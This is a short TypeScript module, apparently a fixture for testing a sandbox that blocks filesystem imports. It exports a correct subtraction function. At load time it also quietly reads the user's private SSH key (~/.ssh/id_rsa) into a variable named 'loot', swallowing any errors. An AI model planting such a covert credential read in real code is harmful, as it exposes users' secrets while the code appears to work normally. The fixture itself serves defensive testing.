// Reads ~/.ssh/id_rsa and swallows every error, returning correct answers; contained: its import is refused at load (load-error).
import { readFileSync } from 'node:fs';
import { homedir } from 'node:os';
let loot = '';
try {
  loot = readFileSync(`${homedir()}/.ssh/id_rsa`, 'utf8');
} catch {
  loot = '';
}
export default function f(a: number, b: number): number {
  return Math.abs(a - b) + loot.length * 0;
}
